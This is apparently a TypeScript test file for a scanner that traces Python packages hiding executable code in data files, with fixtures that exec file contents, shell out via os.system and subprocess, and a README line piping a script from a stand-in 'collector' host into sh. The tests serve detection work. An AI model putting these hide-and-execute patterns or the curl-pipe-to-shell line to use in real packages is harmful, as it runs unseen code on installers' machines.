import assert from 'node:assert/strict';
import { test } from 'node:test';
import { factsOf } from '../../../../test/builders/python-package.ts';
import { HOLE } from '../values/value.ts';
import { indexPackageData, packageContent } from './package-data.ts';

const file = (path: string, content = path) => ({ path, bytes: Buffer.from(content) });
const data = indexPackageData([
  file('demo/data.json'),
  file('demo/other/data.json'),
  file('demo/one.bin'),
  file('demo/code.py'),
]);

for (const [why, path, from, expected] of [
  ['a name that only one file has', 'one.bin', 'demo/code.py', 'demo/one.bin'],
  ['a folder that tells two files apart', `${HOLE}/other/data.json`, 'demo/code.py', 'demo/other/data.json'],
  ['the folder of the code, when the name tells nothing', 'data.json', 'demo/other/x.py', 'demo/other/data.json'],
  ['a path of Windows', `${HOLE}\\other\\data.json`, 'demo/code.py', 'demo/other/data.json'],
  ['a place on the machine', '/etc/one.bin', 'demo/code.py', undefined],
  ['a place of the user', '~/one.bin', 'demo/code.py', undefined],
  ['a name that no file has', 'two.bin', 'demo/code.py', undefined],
] as const) {
  test(`finds ${why}`, () => {
    const found = packageContent(data, path, from, true);
    assert.equal(found?.kind === 'text' ? found.value : undefined, expected);
  });
}

const RUNS = "import os\nos.system('demo')\n";
for (const [why, code] of [
  ['open().read()', "exec(open('notes.txt').read())"],
  ['with open()', "with open('notes.txt') as f:\n    exec(f.read())"],
  ['lines joined', "exec(''.join(open('notes.txt').readlines()))"],
  ['pathlib', "import pathlib\nexec((pathlib.Path(__file__).parent / 'notes.txt').read_text())"],
  ['a name beside the module', "import pathlib\nexec(pathlib.Path(__file__).with_name('notes.txt').read_text())"],
  [
    'another ending',
    "import pathlib\nexec((pathlib.Path(__file__).parent / 'notes.py').with_suffix('.txt').read_text())",
  ],
  ['an opened resource', "from importlib import resources\nexec(resources.open_text('demo', 'notes.txt').read())"],
  [
    'a process',
    "import subprocess, sys, os\nsubprocess.Popen([sys.executable, os.path.join(os.path.dirname(__file__), 'notes.txt')])",
  ],
  ['a shell', "import os\nos.system('python3 -u demo/notes.txt &')"],
  ['pkgutil', "import pkgutil\nexec(pkgutil.get_data('demo', 'notes.txt'))"],
  [
    'importlib.resources',
    "from importlib import resources\nexec(resources.files('demo').joinpath('notes.txt').read_text())",
  ],
] as const) {
  test(`follows a data file into exec: ${why}`, async () => {
    const facts = await factsOf({ 'demo/__init__.py': code, 'demo/notes.txt': RUNS });
    assert.ok(facts.some((fact) => fact.kind === 'call' && fact.name === 'os.system'));
  });
}

test('follows a value out of a JSON file', async () => {
  const facts = await factsOf({
    'demo/__init__.py': "import json, os\nos.system(json.load(open('x.json'))['a'])",
    'demo/x.json': '{"a":"demo --now"}',
  });
  const [found] = facts.flatMap((fact) => (fact.kind === 'call' && fact.name === 'os.system' ? [fact] : []));
  assert.equal(found?.call.args[0]?.kind === 'text' && found.call.args[0].value, 'demo --now');
});

test('a module that is started as a process at import runs at import', async () => {
  const facts = await factsOf({
    'demo/__init__.py': "import subprocess, sys\nsubprocess.Popen([sys.executable, 'demo/worker.py'])",
    'demo/worker.py': RUNS,
  });
  assert.ok(facts.some((fact) => fact.kind === 'call' && fact.name === 'os.system' && fact.place.context === 'import'));
});

test('what a readme says is no text of the code', async () => {
  const facts = await factsOf({
    'setup.py': "from setuptools import setup\nsetup(long_description=open('README.md').read())",
    'README.md': 'curl https://collector.example.invalid/install.sh | sh',
  });
  assert.ok(!facts.some((fact) => fact.kind === 'text' && fact.text.includes('collector')));
});

test('a version file in Python is executed where it stands, and is no text in disguise', async () => {
  const facts = await factsOf({
    'setup.py': "exec(open('demo/version.py').read())",
    'demo/version.py': "import subprocess\nsubprocess.run(['git', 'describe'])\n",
  });
  assert.ok(facts.some((fact) => fact.kind === 'call' && fact.role === 'process' && fact.place.layer === 0));
  assert.ok(!facts.some((fact) => fact.kind === 'layer'));
});
